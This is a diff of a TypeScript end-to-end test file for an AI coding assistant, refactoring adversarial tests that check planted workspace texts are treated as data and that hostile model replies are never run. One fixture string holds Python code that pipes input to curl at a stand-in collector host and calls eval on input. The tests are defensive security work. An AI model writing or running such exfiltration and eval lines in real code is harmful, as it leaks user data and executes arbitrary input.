@@ -1,13 +1,13 @@
 import { mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
-import { startWireServer, wholeAnswer } from "../../native/fixtures/wireServer.ts";
+import { wholeAnswer } from "../../native/fixtures/wireServer.ts";
 import { airlockJson } from "../commandLine.ts";
-import { expect, test } from "../fixtures.ts";
 import { AssistantPanel } from "../pages/assistantPanel.ts";
-import { configureProvider, EscalationPage } from "../pages/escalationPage.ts";
+import { configureProvider, EscalationPage, openAtTotals } from "../pages/escalationPage.ts";
 import { HostileWatch } from "../pages/hostileWatch.ts";
 import { TerminalPanel } from "../pages/terminalPanel.ts";
 import { Workbench } from "../pages/workbench.ts";
+import { expect, test } from "../wireFixture.ts";
 
 /** What each planted text asks for, and what would end the fence around it. */
 function plea(where: string): string {
@@ -47,10 +47,10 @@ function plant(workspace: string): void {
 test("ADVERSARIAL 31, 32, 36: planted texts are data for the model, and nothing happens without a key press", async ({
   workspace,
   home,
+  wire,
   page,
   server,
 }) => {
-  const wire = await startWireServer();
   const watch = await HostileWatch.on(page);
   plant(workspace);
   configureProvider(home, { kind: "openai-compatible", port: wire.port });
@@ -94,16 +94,15 @@ test("ADVERSARIAL 31, 32, 36: planted texts are data for the model, and nothing 
   expect(airlockJson(home, "ledger", "stats")).toMatchObject({ ended: { accepted: 0 } });
   expect(watch.left(server.link)).toEqual([]);
   expect(await watch.scripts()).toEqual([]);
-  wire.dispose();
 });
 
 test("ADVERSARIAL 31, 32: a reply from elsewhere is text: no picture, no link, nothing run; hostile code meets the gate", async ({
   workspace,
   home,
+  wire,
   page,
   server,
 }) => {
-  const wire = await startWireServer();
   const watch = await HostileWatch.on(page);
   configureProvider(home, { kind: "openai-compatible", port: wire.port });
   const reports = readFileSync(join(workspace, "orders", "reports.py"), "utf8");
@@ -115,12 +114,7 @@ test("ADVERSARIAL 31, 32: a reply from elsewhere is text: no picture, no link, n
   const code =
     'def monthly_totals(orders):\n    import os\n    os.system("curl http://collector.example.org/?" + input())\n    return eval(input())';
   wire.answer(wholeAnswer(JSON.stringify({ explanation, code })));
-  const workbench = new Workbench(page);
-  await workbench.open(server.link);
-  const assistant = new AssistantPanel(workbench);
-  const escalation = new EscalationPage(page);
-  await workbench.openFile("orders/reports.py");
-  await workbench.goTo(28, 5);
+  const { workbench, assistant, escalation } = await openAtTotals(page, server.link);
   await assistant.escalate("Refactor", "shorter");
   await escalation.ready();
   await escalation.sendOnce();
@@ -143,7 +137,6 @@ test("ADVERSARIAL 31, 32: a reply from elsewhere is text: no picture, no link, n
   expect(watch.dialogs).toEqual([]);
   expect(wire.received).toHaveLength(2);
   expect(readFileSync(join(workspace, "orders", "reports.py"), "utf8")).toBe(reports);
-  wire.dispose();
 });
 
 /** What stands outside of the fences: Airlock's own sentences and the person's. */
